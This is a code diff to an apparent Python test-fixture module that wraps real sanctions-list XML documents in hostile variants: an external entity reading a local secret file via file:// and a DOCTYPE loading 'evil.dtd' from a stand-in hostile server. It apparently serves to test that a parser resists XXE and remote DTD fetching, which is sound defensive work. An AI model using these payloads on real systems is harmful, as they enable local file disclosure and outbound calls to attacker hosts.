@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from collections.abc import Callable
 from dataclasses import dataclass
 
@@ -113,3 +114,24 @@ def dtd_fetch(_: bytes, ctx: Ctx) -> bytes:
         f'<?xml version="1.0"?><!DOCTYPE sdnList SYSTEM "{ctx.base}/evil.dtd">'
         '<sdnList xmlns="http://tempuri.org/sdnList.xsd"></sdnList>'
     ).encode()
+
+
+def with_doctype(data: bytes, declaration: str) -> bytes:
+    """A real XML document with a DOCTYPE (after its XML declaration, if any) naming its root."""
+    decl, sep, rest = data.partition(b"?>") if data.startswith(b"<?xml") else (b"", b"", data)
+    found = re.search(rb"<([A-Za-z][\w.-]*)", rest)
+    assert found, "no root element"
+    doctype = b"<!DOCTYPE " + found.group(1) + b" " + declaration.encode() + b">"
+    return decl + sep + doctype + rest
+
+
+def xxe_into(data: bytes, ctx: Ctx, before: bytes) -> bytes:
+    """The real document with an external entity (a local file) used before `before`."""
+    declared = with_doctype(data, f'[<!ENTITY x SYSTEM "file://{ctx.secret}">]')
+    assert before in declared
+    return declared.replace(before, b"&x;" + before, 1)
+
+
+def doctype_fetch(data: bytes, ctx: Ctx) -> bytes:
+    """The real document behind a DOCTYPE whose DTD sits on the hostile server."""
+    return with_doctype(data, f'SYSTEM "{ctx.base}/evil.dtd"')
